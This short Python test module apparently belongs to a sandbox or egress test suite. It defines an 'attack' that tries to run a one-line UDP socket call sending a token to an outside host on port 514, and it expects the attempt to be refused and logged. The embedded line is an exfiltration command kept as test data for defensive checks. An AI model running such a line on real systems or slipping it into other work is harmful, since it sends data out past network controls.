"""A line goes to a log server outside."""

from tests.attacks.attack import Attack
from tests.attacks.grounds.ground import Ground
from tests.attacks.grounds.world import WEB


def attempt(ground: Ground) -> bool:
    """Gives whether it worked."""
    return ground.arrives(f"socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'{ground.token}', ('{WEB}', 514))")


ATTACK = Attack("UDP to the outside", attempt, recorded=("network.refused", f"udp {WEB}:514"))
